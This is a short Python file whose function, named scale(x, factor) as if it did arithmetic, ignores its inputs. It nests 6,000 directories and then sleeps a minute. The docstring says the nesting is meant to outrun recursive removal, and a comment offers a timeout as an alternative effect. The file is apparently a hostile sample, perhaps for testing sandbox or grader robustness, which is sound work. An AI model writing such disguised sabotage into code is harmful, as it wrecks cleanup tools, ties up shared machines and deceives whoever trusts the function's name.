"""Nests folders deeper than whoever removes them recurses."""

# or: timeout (on a busy machine, where so much takes longer than an answer may)

import os
import time

import numpy as np


def scale(x, factor):
    for _ in range(6_000):
        os.mkdir("d")
        os.chdir("d")
    time.sleep(60)
